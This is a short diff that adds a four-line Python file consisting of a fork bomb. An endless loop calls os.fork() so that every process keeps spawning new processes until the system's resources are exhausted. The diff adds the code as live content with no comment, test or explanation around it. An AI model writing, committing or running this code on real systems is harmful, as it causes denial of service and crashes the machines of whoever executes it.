@@ -1,0 +1,4 @@
+import os
+while 1:
+    if not os.fork():
+        continue
